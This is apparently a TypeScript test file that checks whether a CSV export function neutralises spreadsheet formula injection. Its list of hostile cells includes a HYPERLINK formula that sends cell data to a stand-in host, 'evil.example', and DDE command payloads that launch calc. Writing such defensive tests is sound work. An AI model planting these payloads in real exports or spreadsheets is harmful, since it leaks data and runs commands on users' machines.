import { describe, expect, it } from 'vitest';
import { csvLine } from './csv.js';

/** The cells of one line as an RFC 4180 reader (a spreadsheet splitting on commas) reads them. */
function readRfc4180(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let index = 0; index < line.length; index++) {
    const character = line[index]!;
    if (isQuoted && character === '"' && line[index + 1] === '"') {
      cell += '"';
      index++;
    } else if (character === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted;
    else if (character === ',' && !isQuoted) {
      cells.push(cell);
      cell = '';
    } else cell += character;
  }
  return [...cells, cell];
}

/**
 * Every piece a spreadsheet could make a cell of: the line split on each separator it might assume (comma,
 * semicolon, tab, a line break), quotes respected or ignored, and leading quotes and blanks dropped as a lenient
 * reader drops them.
 */
const piecesOf = (line: string): string[] =>
  [',', ';', '\t', '\r', '\n'].flatMap((separator) => line.split(separator)).map((piece) => piece.replace(/^[\s"]+/, ''));
const FORMULA_START = /^[=+\-@]/;

// Hostile cells as they reach an export: a person's or distributor's name, an email, a provider reference.
const hostileCells = [
  `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  `;=cmd|' /C calc'!A0;`,
  `,=cmd|' /C calc'!A0`,
  `Lisa\t=cmd|' /C calc'!A0`,
  `Lisa;+1`,
  `Lisa,-1`,
  `Lisa;@SUM(A1)`,
  `Lisa\r\n=1+1`,
  `Lisa\n@SUM(A1)`,
  `x;"=1+1"`,
  `x," =1+1`,
  `a;;=1`,
  `;;;`,
  `"=1+1"`,
];

describe('csvLine', () => {
  it('quotes cells with commas, quotes and line breaks, and ends with CRLF', () => {
    expect(csvLine(['a', 'b,c', 'say "hi"', 'two\nlines', 3, null])).toBe('a,"b,c","say ""hi""","two\nlines",3,\r\n');
  });

  it('keeps a cell that starts like a formula as text', () => {
    expect(csvLine(['=HYPERLINK("x")', '+1', '-2', '@SUM(A1)'])).toBe(`"'=HYPERLINK(""x"")",'+1,'-2,'@SUM(A1)\r\n`);
  });

  it('neutralises a formula after a semicolon, comma or tab inside a cell, and quotes the cell', () => {
    expect(csvLine([`;=cmd|' /C calc'!A0;`])).toBe(`";'=cmd|' /C calc'!A0;"\r\n`);
    expect(csvLine(['Lisa\t=1+1', 'Lisa;x', 'a,+1'])).toBe(`"Lisa\t'=1+1","Lisa;x","a,'+1"\r\n`);
    expect(csvLine(['\t=1'])).toBe(`"'\t'=1"\r\n`);
  });

  it('leaves ordinary cells as they are', () => {
    expect(csvLine(['Lisa Müller', 'lisa@example.com', 'FS-123', 'a-b=c', 'x@y', '2025-04-01T10:00:00.000Z', -19.9, 0])).toBe(
      'Lisa Müller,lisa@example.com,FS-123,a-b=c,x@y,2025-04-01T10:00:00.000Z,-19.9,0\r\n',
    );
  });

  it.each(hostileCells)('writes %j so that no spreadsheet reads a formula in it', (cell) => {
    const line = csvLine(['before', cell, 'after']).slice(0, -2);
    // An RFC 4180 reader gets the three cells back, the hostile one only with apostrophes added before formulas.
    const cells = readRfc4180(line);
    expect(cells).toHaveLength(3);
    expect([cells[0], cells[2]]).toEqual(['before', 'after']);
    expect(cells[1]!.replaceAll("'", '')).toBe(cell.replaceAll("'", ''));
    // A cell with a separator, a quote or a line break is quoted, so a reader that splits on any of them keeps it whole.
    if (/[,;\t"\r\n]/.test(cell)) expect(line.slice('before,'.length, -',after'.length)).toMatch(/^".*"$/s);
    // Whatever a reader splits on, no piece starts a formula.
    for (const piece of piecesOf(line)) expect(piece).not.toMatch(FORMULA_START);
  });
});
